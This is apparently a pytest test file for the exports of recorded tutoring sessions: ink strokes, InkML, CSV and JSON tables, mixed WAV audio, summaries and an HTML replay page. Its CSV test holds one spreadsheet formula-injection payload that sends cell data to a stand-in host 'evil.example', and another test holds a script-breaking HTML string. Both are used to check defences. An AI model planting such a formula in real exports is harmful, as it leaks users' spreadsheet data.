"""The recording exports, on a recording built by hand: real ink encoded as the wire carries it
(through Event frames and back), Opus tones from opuslib in known intervals, silence packets
elsewhere. Every export is read back and checked against what was sent."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import json
import re
import wave
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

import numpy as np
import numpy.typing as npt
import opuslib  # type: ignore[import-untyped]
import pytest

from recordings.exports import inkml, replay_html, summary, tables, wav
from recordings.exports.model import AudioTrack, ClockOffset, InkEvent, Person, RecordingData, labels
from recordings.exports.strokes import TIMING_CLOCK, TIMING_SPREAD, replay
from tests.inkdata import handwriting
from wire import HAS_PRESSURE, HAS_TILT, Limits, Point, PointState, Rights, Role, decode_frame, encode
from wire import messages as m

RATE = 48_000
FRAME = 960
SILENCE = b"\xf8\xff\xfe"
DURATION_MS = 10_000
TUTOR_HZ, STUDENT_HZ = 440.0, 1000.0
TUTOR_TALK = [(1000, 3000), (6000, 7500)]
STUDENT_TALK = [(3500, 5500)]
STUDENT_AUDIO_END_MS = 6000  # the student's track stops early; the mix runs on
TUTOR_OFFSETS = [(500, -250.0), (8600, -400.0)]  # (at_ms, device minus session)
BATCH = 8
# The student joined first, so holds pid 1: exports still list the tutor first (by role).
TUTOR, STUDENT = 2, 1
LABEL = {TUTOR: "tutor", STUDENT: "student"}
PEOPLE = {TUTOR: Person(TUTOR, Role.TUTOR, "t-1"), STUDENT: Person(STUDENT, Role.STUDENT, "s-1")}


@dataclass(frozen=True)
class SentStroke:
    pid: int
    stroke: int
    page: int
    begin_ms: int
    end_ms: int
    device_t0: int
    flags: int
    points: list[Point]


# --- building the recording -------------------------------------------------------------------


class _Log:
    def __init__(self) -> None:
        self.events: list[InkEvent] = []
        self.sent: list[SentStroke] = []
        self.cseq = {pid: 0 for pid in PEOPLE}

    def add(self, session_ms: int, pid: int, body: m.EventBody) -> None:
        """Through the wire format and back, as the loader gets it from the log."""
        self.cseq[pid] += 1
        frame = encode(m.Event(len(self.events) + 1, session_ms, pid, self.cseq[pid], body))
        event = decode_frame(frame, Limits())
        assert isinstance(event, m.Event)
        self.events.append(InkEvent(event.session_ms, event.pid, event.body))

    def stroke(self, pid: int, stroke: int, page: int, begin_ms: int, device_t0: int, points: list[Point],
               flags: int = HAS_PRESSURE) -> None:
        self.add(begin_ms, pid, m.StrokeBegin(0, stroke, page, m.Tool.PEN, 0x1E50A0FF, 40, flags, device_t0))
        state = PointState()
        for i in range(0, len(points), BATCH):
            batch = points[i : i + BATCH]
            blob = bytes(_encode(batch, flags, state))
            self.add(begin_ms + batch[-1].t + 30, pid, m.StrokePoints(0, stroke, i, len(batch), blob))
        end_ms = begin_ms + points[-1].t + 40
        self.add(end_ms, pid, m.StrokeEnd(0, stroke))
        self.sent.append(SentStroke(pid, stroke, page, begin_ms, end_ms, device_t0, flags, points))


def _encode(points: list[Point], flags: int, state: PointState) -> bytes:
    from wire import encode_points

    return encode_points(points, flags, state)


def _tone(freq: float, start_sample: int, samples: int, amplitude: float = 0.3) -> npt.NDArray[np.int16]:
    t = (np.arange(samples) + start_sample) / RATE
    return (np.sin(2 * np.pi * freq * t) * amplitude * 32767).astype(np.int16)


def _track(pid: int, freq: float, talk: list[tuple[int, int]], end_ms: int,
           amplitude: float = 0.3) -> AudioTrack:
    """20 ms packets up to ``end_ms``: the tone (opuslib) inside ``talk``, silence packets outside."""
    encoder = opuslib.Encoder(RATE, 1, opuslib.APPLICATION_AUDIO)
    packets: list[tuple[bytes, int]] = []
    for i in range(end_ms // 20):
        start_ms = i * 20
        if any(a <= start_ms < b for a, b in talk):
            pcm = _tone(freq, i * FRAME, FRAME, amplitude)
            packets.append((bytes(encoder.encode(pcm.tobytes(), FRAME)), (i + 1) * FRAME))
        else:
            packets.append((SILENCE, (i + 1) * FRAME))
    return AudioTrack(pid, packets)


def build_recording() -> tuple[RecordingData, list[SentStroke]]:
    log = _Log()
    tutor, student = TUTOR, STUDENT
    log.add(0, tutor, m.Presence("t-1", True, Role.TUTOR))
    log.add(300, student, m.Presence("s-1", True, Role.STUDENT))
    log.add(500, tutor, m.PageAdd(0, 1))
    # Tutor strokes: device clock = session clock + offset (-250 early on, -400 from 8.6 s).
    log.stroke(tutor, 1, 0, 1200, 1200 - 250, handwriting(60, seed=1))
    log.stroke(tutor, 2, 0, 2500, 2500 - 250, handwriting(40, seed=2))
    log.add(3200, tutor, m.Undo(0, 2))
    log.add(4000, tutor, m.PageSwitch(0, 1))
    log.stroke(tutor, 3, 1, 4200, 4200 - 250, handwriting(50, seed=3))
    # The student's device clock was never measured: its points are spread over begin..end.
    log.add(4900, student, m.PageSwitch(0, 1))
    log.stroke(student, 1, 1, 5000, 123_456, handwriting(30, seed=4, tilt=True), HAS_PRESSURE | HAS_TILT)
    log.add(7000, student, m.Mute(0, True))
    log.add(8000, student, m.Clear(0, 1))
    log.add(8500, tutor, m.PageSwitch(0, 0))
    log.stroke(tutor, 4, 0, 8800, 8800 - 400, handwriting(20, seed=5))
    data = RecordingData(
        session_id="demo-session", started_unix=1_790_000_000.125, duration_ms=DURATION_MS,
        participants=PEOPLE, events=log.events,
        audio={tutor: _track(tutor, TUTOR_HZ, TUTOR_TALK, DURATION_MS),
               student: _track(student, STUDENT_HZ, STUDENT_TALK, STUDENT_AUDIO_END_MS)},
        clocks=[ClockOffset(tutor, at, off, 3.0) for at, off in TUTOR_OFFSETS], status="complete",
    )
    return data, log.sent


def expected_session_ms(sent: SentStroke) -> list[float]:
    """Where each sent point belongs on the session clock, worked out independently."""
    if sent.pid == TUTOR:
        offset = -400.0 if sent.begin_ms > 8000 else -250.0
        return [sent.device_t0 + p.t - offset for p in sent.points]
    t0, t1 = sent.points[0].t, sent.points[-1].t
    return [round(sent.begin_ms + (p.t - t0) / (t1 - t0) * (sent.end_ms - sent.begin_ms), 3) for p in sent.points]


@pytest.fixture(scope="module")
def recording() -> tuple[RecordingData, list[SentStroke]]:
    return build_recording()


@pytest.fixture(scope="module")
def data(recording: tuple[RecordingData, list[SentStroke]]) -> RecordingData:
    return recording[0]


@pytest.fixture(scope="module")
def sent(recording: tuple[RecordingData, list[SentStroke]]) -> list[SentStroke]:
    return recording[1]


@pytest.fixture(scope="module")
def summ(data: RecordingData) -> dict[str, Any]:
    return summary.summary(data)


def _key(pid: int, stroke: int) -> str:
    return f"{LABEL[pid]}-{stroke}"


# --- strokes ----------------------------------------------------------------------------------


def test_replay_gives_every_stroke_with_both_clocks(data: RecordingData, sent: list[SentStroke]) -> None:
    strokes = {s.key: s for s in replay(data)}
    assert list(strokes) == [_key(s.pid, s.stroke) for s in sent]
    for want in sent:
        got = strokes[_key(want.pid, want.stroke)]
        assert (got.page, got.begin_ms, got.end_ms, got.device_t0) == (want.page, want.begin_ms, want.end_ms,
                                                                      want.device_t0)
        assert [(p.x, p.y, p.t, p.pressure, p.tilt_x, p.tilt_y) for p in got.points] == [
            (p.x, p.y, p.t, p.pressure, p.tilt_x, p.tilt_y) for p in want.points]
        assert [p.device_ms for p in got.points] == [want.device_t0 + p.t for p in want.points]
        assert [p.session_ms for p in got.points] == expected_session_ms(want)
        assert got.timing == (TIMING_CLOCK if want.pid == TUTOR else TIMING_SPREAD)
        assert (got.pid, got.label) == (want.pid, LABEL[want.pid])


def test_undo_and_clear_flag_strokes_but_keep_them(data: RecordingData) -> None:
    strokes = {s.key: s for s in replay(data)}
    assert {k: (s.removed, s.removed_by, s.removed_ms) for k, s in strokes.items()} == {
        "tutor-1": (False, None, None),
        "tutor-2": (True, "undo", 3200),
        "tutor-3": (True, "clear", 8000),
        "student-1": (True, "clear", 8000),
        "tutor-4": (False, None, None),
    }


def test_a_restore_brings_back_the_latest_clears_strokes_and_is_in_the_events() -> None:
    log = _Log()
    log.add(0, TUTOR, m.Presence("t-1", True, Role.TUTOR))
    log.stroke(TUTOR, 1, 0, 100, 0, handwriting(8, seed=1))
    log.add(1000, TUTOR, m.Clear(0, 0))
    log.stroke(STUDENT, 1, 0, 1100, 0, handwriting(8, seed=2))
    log.add(2000, TUTOR, m.Clear(0, 0))
    log.add(2100, TUTOR, m.Clear(0, 0))  # an empty page's Clear keeps no layer
    log.add(3000, TUTOR, m.Grant(0, STUDENT, Rights.CLEAR))
    log.add(3100, STUDENT, m.Restore(0, 0))  # the student's ink (the latest Clear that took any)
    log.add(3200, STUDENT, m.Presence("s-1", False, Role.STUDENT, True))
    data = RecordingData("restored", 0.0, 4000, PEOPLE, log.events, {}, [], "complete")
    strokes = {s.key: (s.removed, s.removed_by, s.removed_ms) for s in replay(data)}
    assert strokes == {"tutor-1": (True, "clear", 1000), "student-1": (False, None, None)}
    # When each was off the page: the student's ink between its Clear and the Restore, the tutor's
    # from its Clear on; the offline replay page hides a stroke exactly then.
    assert {s.key: s.hidden for s in replay(data)} == {"tutor-1": ((1000, None),), "student-1": ((2000, 3100),)}
    assert {s["id"]: s["hidden"] for s in replay_html.replay_data(data)["strokes"]} == {
        "tutor-1": [[1000, None]], "student-1": [[2000, 3100]]}
    rows = json.loads(tables.events_json(data))["events"]
    assert [r for r in rows if r["type"] in ("restore", "grant")] == [
        {"session_ms": 3000, "seat": "tutor", "pid": TUTOR, "type": "grant", "target": STUDENT, "rights": "CLEAR"},
        {"session_ms": 3100, "seat": "student", "pid": STUDENT, "type": "restore", "page": 0},
    ]
    assert rows[-1]["left"] is True and "left" not in rows[0]


def test_nearest_clock_offset_is_used(data: RecordingData) -> None:
    # tutor-4 was written at 8.8 s: the offset measured at 9 s (-400) applies, not the one at 0.5 s.
    late = next(s for s in replay(data) if s.key == "tutor-4")
    assert late.points[0].session_ms == 8800


def test_a_stroke_that_never_ended_and_ops_for_unknown_strokes() -> None:
    # As a recovered recording can have: the end never logged, points of a stroke whose begin is lost.
    points = handwriting(12, seed=9)
    state = PointState()
    events = [
        InkEvent(100, STUDENT, m.StrokeBegin(0, 7, 0, m.Tool.HIGHLIGHTER, 0xFFFF0080, 300, HAS_PRESSURE, 50)),
        InkEvent(150, STUDENT, m.StrokePoints(0, 7, 0, 6, _encode(points[:6], HAS_PRESSURE, state))),
        InkEvent(190, STUDENT, m.StrokePoints(0, 7, 6, 6, _encode(points[6:], HAS_PRESSURE, state))),
        InkEvent(200, TUTOR, m.StrokePoints(0, 99, 0, 1, b"\x00\x00\x00")),
        InkEvent(210, TUTOR, m.Undo(0, 99)),
    ]
    data = RecordingData("cut", 0.0, 300, {}, events, {}, [], "interrupted")
    (stroke,) = replay(data)
    assert stroke.end_ms is None and stroke.timing == TIMING_SPREAD
    assert stroke.points[0].session_ms == 100 and stroke.points[-1].session_ms == 190
    assert len(inkml.parse_inkml(inkml.to_inkml(data))[0].points) == 12


# --- InkML ------------------------------------------------------------------------------------


def test_inkml_reads_back_the_points_sent(data: RecordingData, sent: list[SentStroke]) -> None:
    text = inkml.to_inkml(data)
    root = ET.fromstring(text)
    assert root.tag == "{http://www.w3.org/2003/InkML}ink"
    for fmt in root.iter("{http://www.w3.org/2003/InkML}traceFormat"):  # one per device
        assert [c.get("name") for c in fmt] == ["X", "Y", "F", "T", "OTx", "OTy"]
    stamp = root.find(".//{http://www.w3.org/2003/InkML}timestamp")
    assert stamp is not None and stamp.get("time") == "1790000000125"
    traces = {t.id: t for t in inkml.parse_inkml(text)}
    assert set(traces) == {_key(s.pid, s.stroke) for s in sent}
    for want in sent:
        trace = traces[_key(want.pid, want.stroke)]
        assert trace.page == want.page
        expected = [
            {"X": p.x, "Y": p.y, "F": p.pressure, "T": t, "OTx": p.tilt_x, "OTy": p.tilt_y}
            for p, t in zip(want.points, expected_session_ms(want), strict=True)
        ]
        assert trace.points == expected
        assert trace.time_offset == round(expected[0]["T"])  # whole ms, the schema's integer
        assert trace.duration == round(expected[-1]["T"]) - round(expected[0]["T"])
        assert trace.brush is not None
    assert {k for k, t in traces.items() if t.removed} == {"tutor-2", "tutor-3", "student-1"}


def test_inkml_groups_traces_by_page_and_defines_their_brushes(data: RecordingData) -> None:
    root = ET.fromstring(inkml.to_inkml(data))
    ns = "{http://www.w3.org/2003/InkML}"
    xml_id = "{http://www.w3.org/XML/1998/namespace}id"
    groups = {g.get(xml_id): [t.get(xml_id) for t in g.findall(f"{ns}trace")] for g in root.iter(f"{ns}traceGroup")}
    assert groups == {"page-0": ["tutor-1", "tutor-2", "tutor-4"], "page-1": ["tutor-3", "student-1"]}
    brushes = {b.get(xml_id): {p.get("name"): p.get("value") for p in b.findall(f"{ns}brushProperty")}
               for b in root.iter(f"{ns}brush")}
    assert brushes["pen-1e50a0ff-40"]["color"] == "#1E50A0"
    assert brushes["pen-1e50a0ff-40"]["width"] == "40"


# --- tables -----------------------------------------------------------------------------------


def test_points_csv_has_a_row_per_point_sent(data: RecordingData, sent: list[SentStroke]) -> None:
    rows = list(csv.DictReader(io.StringIO(tables.points_csv(data))))
    assert len(rows) == sum(len(s.points) for s in sent)
    by_key = {(r["seat"], int(r["stroke"]), int(r["point"])): r for r in rows}
    removed = {"tutor-2", "tutor-3", "student-1"}
    for want in sent:
        for i, (p, t) in enumerate(zip(want.points, expected_session_ms(want), strict=True)):
            row = by_key[(LABEL[want.pid], want.stroke, i)]
            assert row["session_id"] == "demo-session"
            assert int(row["page"]) == want.page
            assert [int(row[c]) for c in ("x", "y", "pressure", "tilt_x", "tilt_y", "device_ms")] == [
                p.x, p.y, p.pressure, p.tilt_x, p.tilt_y, want.device_t0 + p.t]
            assert float(row["session_ms"]) == t
            assert row["removed"] == str(int(_key(want.pid, want.stroke) in removed))


def test_events_json_round_trips(data: RecordingData, sent: list[SentStroke]) -> None:
    text = tables.events_json(data)
    doc = json.loads(text)
    assert json.loads(json.dumps(doc)) == doc
    assert doc["session_id"] == "demo-session" and doc["status"] == "complete"
    assert doc["participants"] == {"tutor": "t-1", "student": "s-1"}
    assert len(doc["events"]) == len(data.events)
    assert [e["session_ms"] for e in doc["events"]] == [e.session_ms for e in data.events]
    kinds = [e["type"] for e in doc["events"]]
    assert {"presence", "page_add", "stroke_begin", "stroke_points", "stroke_end", "undo", "page_switch", "mute",
            "clear"} == set(kinds)
    # The points of every stroke, batch after batch, are the points sent.
    for want in sent:
        batches = [e for e in doc["events"]
                   if e["type"] == "stroke_points" and e["seat"] == LABEL[want.pid] and e["pid"] == want.pid
                   and e["stroke"] == want.stroke]
        got = [tuple(p) for e in batches for p in e["points"]]
        assert got == [(p.x, p.y, p.t, p.pressure, p.tilt_x, p.tilt_y) for p in want.points]
    begin = next(e for e in doc["events"] if e["type"] == "stroke_begin")
    assert begin == {"session_ms": 1200, "seat": "tutor", "pid": TUTOR, "type": "stroke_begin", "stroke": 1,
                     "page": 0, "tool": "pen", "color": "#1e50a0ff", "width": 40, "flags": HAS_PRESSURE,
                     "device_t0": 950}
    tutor_audio = doc["audio"]["tutor"]
    talk_packets = sum(b - a for a, b in TUTOR_TALK) // 20
    assert tutor_audio["packets"] == DURATION_MS // 20
    assert tutor_audio["silence_packets"] == DURATION_MS // 20 - talk_packets
    assert tutor_audio["duration_ms"] == DURATION_MS
    assert doc["audio"]["student"]["duration_ms"] == STUDENT_AUDIO_END_MS
    assert doc["roster"] == [{"pid": TUTOR, "role": "tutor", "user_id": "t-1", "label": "tutor"},
                             {"pid": STUDENT, "role": "student", "user_id": "s-1", "label": "student"}]
    assert doc["events"][1] == {"session_ms": 300, "seat": "student", "pid": STUDENT, "type": "presence",
                                "user_id": "s-1", "online": True, "role": "student"}
    assert doc["clock_offsets"] == [{"seat": "tutor", "pid": TUTOR, "at_ms": at, "offset_ms": off,
                                     "rtt_ms": 3.0}
                                    for at, off in TUTOR_OFFSETS]


# --- audio ------------------------------------------------------------------------------------


def _dominant(pcm: npt.NDArray[np.int16]) -> float:
    spectrum = np.abs(np.fft.rfft(pcm.astype(np.float64) * np.hanning(len(pcm))))
    spectrum[0] = 0.0
    return float(np.argmax(spectrum)) * RATE / len(pcm)


def _read_wav(blob: bytes) -> tuple[int, npt.NDArray[np.int16]]:
    with wave.open(io.BytesIO(blob)) as w:
        assert (w.getnchannels(), w.getsampwidth()) == (1, 2)
        return w.getframerate(), np.frombuffer(w.readframes(w.getnframes()), dtype="<i2").astype(np.int16)


def test_mixed_wav_has_each_tone_where_it_belongs(data: RecordingData) -> None:
    rate, pcm = _read_wav(wav.mixed_wav(data))
    assert rate == RATE
    assert len(pcm) == DURATION_MS * RATE // 1000
    window = 200  # ms, kept 60 ms clear of every edge
    for start in range(0, DURATION_MS - window + 1, 100):
        end = start + window
        chunk = pcm[start * 48 : end * 48]

        def inside(spans: list[tuple[int, int]], a: int = start, b: int = end) -> bool:
            return any(s + 60 <= a and b <= e - 60 for s, e in spans)

        def clear(spans: list[tuple[int, int]], a: int = start, b: int = end) -> bool:
            return all(b <= s - 60 or a >= e + 60 for s, e in spans)

        rms = float(np.sqrt(np.mean(chunk.astype(np.float64) ** 2)))
        if inside(TUTOR_TALK):
            assert abs(_dominant(chunk) - TUTOR_HZ) < 10, start
        elif inside(STUDENT_TALK):
            assert abs(_dominant(chunk) - STUDENT_HZ) < 10, start
        elif clear(TUTOR_TALK + STUDENT_TALK):
            assert rms < 30, start


def test_decode_track_places_packets_at_their_granule_end() -> None:
    encoder = opuslib.Encoder(RATE, 1, opuslib.APPLICATION_AUDIO)
    tone = bytes(encoder.encode(_tone(TUTOR_HZ, 0, FRAME, 0.5).tobytes(), FRAME))
    packets = [(SILENCE, FRAME * (i + 1)) for i in range(5)] + [(tone, FRAME * 10)]  # 4 packets lost before it
    pcm = wav.decode_track(AudioTrack(TUTOR, packets))
    assert len(pcm) == FRAME * 10
    assert not pcm[: FRAME * 9].any()
    assert np.abs(pcm[FRAME * 9 :]).max() > 1000


def test_mix_scales_down_instead_of_clipping() -> None:
    loud = [(0, 1000)]
    data = RecordingData("loud", 0.0, 1000, {}, [], {
        TUTOR: _track(TUTOR, TUTOR_HZ, loud, 1000, amplitude=0.9),
        STUDENT: _track(STUDENT, TUTOR_HZ, loud, 1000, amplitude=0.9),
    }, [], "complete")
    raw = wav.decode_track(data.audio[TUTOR]).astype(np.int32) * 2
    assert np.abs(raw).max() > 32767
    mixed = wav.mix(data)
    assert np.abs(mixed.astype(np.int32)).max() == 32767
    clipped = np.count_nonzero(np.abs(mixed.astype(np.int32)) >= 32767)
    assert clipped <= 2  # the peak alone reaches full scale: scaled, not clipped
    k = 32767 / np.abs(raw).max()
    assert np.allclose(mixed, raw * k, atol=1)


# --- summary ----------------------------------------------------------------------------------


def test_talk_time_matches_the_tone_intervals(summ: dict[str, Any]) -> None:
    for role, talk in (("tutor", TUTOR_TALK), ("student", STUDENT_TALK)):
        speaker = summ["speakers"][role]
        assert abs(speaker["talk_ms"] - sum(b - a for a, b in talk)) <= 100, role
        assert len(speaker["segments"]) == len(talk)
        for (a, b), (ga, gb) in zip(talk, speaker["segments"], strict=True):
            assert abs(ga - a) <= 60 and abs(gb - b) <= 60, role


def test_ink_rates_silences_and_pages(summ: dict[str, Any], sent: list[SentStroke]) -> None:
    minutes = DURATION_MS / 60_000
    for pid in PEOPLE:
        mine = [s for s in sent if s.pid == pid]
        points = sum(len(s.points) for s in mine)
        speaker = summ["speakers"][LABEL[pid]]
        assert (speaker["strokes"], speaker["points"]) == (len(mine), points)
        assert speaker["strokes_per_min"] == pytest.approx(len(mine) / minutes)
        assert speaker["points_per_min"] == pytest.approx(points / minutes)
        assert speaker["points_by_minute"] == [points]
    assert summ["speakers"]["tutor"]["strokes_removed"] == 2
    # Nobody talks from 7.5 s to the end at 10 s: the one quiet stretch of 2 s or more.
    assert summ["silence"]["count"] == 1
    assert abs(summ["silence"]["total_ms"] - 2500) <= 100
    assert summ["pages_used"] == [0, 1]
    assert json.loads(json.dumps(summ)) == summ


def test_voice_activity_ignores_steady_background_noise() -> None:
    rng = np.random.default_rng(7)
    pcm = rng.normal(0, 40, RATE * 8)  # about -58 dBFS of hiss throughout
    pcm[RATE * 2 : RATE * 4] += _tone(TUTOR_HZ, 0, RATE * 2, 0.1)
    segments = summary.voice_segments(np.clip(pcm, -32768, 32767).astype(np.int16))
    assert len(segments) == 1
    assert abs(segments[0][0] - 2000) <= 40 and abs(segments[0][1] - 4000) <= 40


def test_timeline_svg_has_a_lane_per_speaker(data: RecordingData, summ: dict[str, Any]) -> None:
    root = ET.fromstring(summary.timeline_svg(data, summ))
    ns = "{http://www.w3.org/2000/svg}"
    lanes = [g for g in root.iter(f"{ns}g") if g.get("class") == "lane"]
    assert [g.get("data-speaker") for g in lanes] == ["tutor", "student"]
    talk = [r for r in lanes[0].iter(f"{ns}rect") if r.get("class") == "talk"]
    ink = [r for r in lanes[0].iter(f"{ns}rect") if r.get("class") == "ink"]
    assert (len(talk), len(ink)) == (2, 4)
    texts = [t.text for t in root.iter(f"{ns}text")]
    assert "minutes" in texts and "speaking" in texts and "writing" in texts


def test_corpus_csv_has_a_row_per_session(summ: dict[str, Any]) -> None:
    other = json.loads(json.dumps(summ))
    other["session_id"] = "second"
    rows = list(csv.DictReader(io.StringIO(summary.corpus_csv([summ, other]))))
    assert [r["session_id"] for r in rows] == ["demo-session", "second"]
    assert rows[0]["tutor_user"] == "t-1" and rows[0]["student_user"] == "s-1"
    assert int(rows[0]["tutor_strokes"]) == 4 and int(rows[0]["student_points"]) == 30
    assert int(rows[0]["silence_count"]) == 1 and int(rows[0]["pages_used"]) == 2


HOSTILE_USER = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_can_run_as_a_spreadsheet_formula(data: RecordingData, summ: dict[str, Any], first: str) -> None:
    """The probe's user id and a session id like ``-2-3``: every text cell that a spreadsheet
    would evaluate starts with an apostrophe, in the corpus and in the points CSV."""
    other = json.loads(json.dumps(summ))
    other["session_id"], other["participants"]["tutor"] = "-2-3", HOSTILE_USER
    other["participants"]["student"] = first + "s"
    row = next(csv.DictReader(io.StringIO(summary.corpus_csv([other]), newline="")))
    assert (row["session_id"], row["tutor_user"]) == ("'-2-3", "'" + HOSTILE_USER)
    assert row["student_user"] == "'" + first.replace("\r", "\n") + "s"
    hostile = dataclasses.replace(data, session_id=first + "2-3")
    points = list(csv.DictReader(io.StringIO(tables.points_csv(hostile), newline="")))
    assert {r["session_id"] for r in points} == {"'" + first.replace("\r", "\n") + "2-3"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in points for k, cell in r.items()
               if k in ("session_id", "seat"))


# --- the replay page --------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.scripts: dict[str, str] = {}
        self._script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs
        if tag == "script":
            self._script = dict(attrs).get("id") or "code"

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, text: str) -> None:
        if self._script is not None:
            self.scripts[self._script] = self.scripts.get(self._script, "") + text


def test_replay_bundle_is_self_contained(data: RecordingData, sent: list[SentStroke]) -> None:
    page = replay_html.replay_bundle(data)
    assert not re.search(r"https?://", page)
    parser = _Tags()
    parser.feed(page)
    parser.close()
    for tag in ("audio", "canvas", "script", "input", "select"):
        assert tag in parser.tags
    sources = [v for k, v in parser.attrs if k in ("src", "href")]
    assert sources and all(v is not None and v.startswith("data:") for v in sources)
    # The audio: a WAV spanning the whole session.
    uri = next(v for v in sources if v is not None and v.startswith("data:audio/wav;base64,"))
    rate, pcm = _read_wav(base64.b64decode(uri.split(",", 1)[1]))
    assert len(pcm) == DURATION_MS * rate // 1000
    # The strokes: every point sent, with its session time.
    shown = json.loads(parser.scripts["tw-data"])
    assert shown["duration_ms"] == DURATION_MS and shown["pages"] == [0, 1]
    by_id = {s["id"]: s for s in shown["strokes"]}
    for want in sent:
        got = by_id[_key(want.pid, want.stroke)]
        assert got["x"] == [p.x for p in want.points] and got["y"] == [p.y for p in want.points]
        assert got["t"] == pytest.approx(expected_session_ms(want), abs=0.05)
    assert by_id["tutor-2"]["removed"] == 3200 and by_id["tutor-1"]["removed"] is None
    assert "requestAnimationFrame" in parser.scripts["code"]


def test_replay_data_escapes_script_breakers() -> None:
    data = RecordingData("x</script><!--", 0.0, 1000, {1: Person(1, Role.TUTOR, "</script>&")}, [], {}, [],
                         "complete")
    page = replay_html.replay_bundle(data)
    assert page.count("</script>") == 2  # the two script elements' own ends
    parser = _Tags()
    parser.feed(page)
    assert json.loads(parser.scripts["tw-data"])["participants"] == {"tutor": "</script>&"}


# --- a class: several participants with one role ---------------------------------------------


def test_a_class_names_participants_by_role_and_pid() -> None:
    people = {1: Person(1, Role.PRESENTER, "p-1"), 2: Person(2, Role.VIEWER, "v-2"), 5: Person(5, Role.VIEWER, "v-5")}
    assert labels(people) == {1: "presenter", 2: "viewer-2", 5: "viewer-5"}
    state = PointState()
    points = handwriting(8, seed=11)
    events = [InkEvent(0, 5, m.Presence("v-5", True, Role.VIEWER)),
              InkEvent(1, 1, m.Presence("p-1", True, Role.PRESENTER)),
              InkEvent(10, 5, m.StrokeBegin(0, 3, 0, m.Tool.PEN, 0x000000FF, 30, HAS_PRESSURE, 0)),
              InkEvent(20, 5, m.StrokePoints(0, 3, 0, 8, _encode(points, HAS_PRESSURE, state))),
              InkEvent(30, 5, m.StrokeEnd(0, 3))]
    data = RecordingData("class", 0.0, 1000, people, events, {}, [], "complete")
    assert data.people() == [1, 2, 5] and data.label(9) == "participant-9"
    assert [s.key for s in replay(data)] == ["viewer-5-3"]
    assert inkml.parse_inkml(inkml.to_inkml(data))[0].id == "viewer-5-3"
    assert {r["seat"] for r in csv.DictReader(io.StringIO(tables.points_csv(data)))} == {"viewer-5"}
    summ = summary.summary(data)
    assert list(summ["speakers"]) == ["presenter", "viewer-2", "viewer-5"]
    assert summ["speakers"]["viewer-5"]["points"] == 8
    row = next(csv.DictReader(io.StringIO(summary.corpus_csv([summ]))))
    assert row["tutor_user"] == row["tutor_points"] == row["student_strokes"] == ""
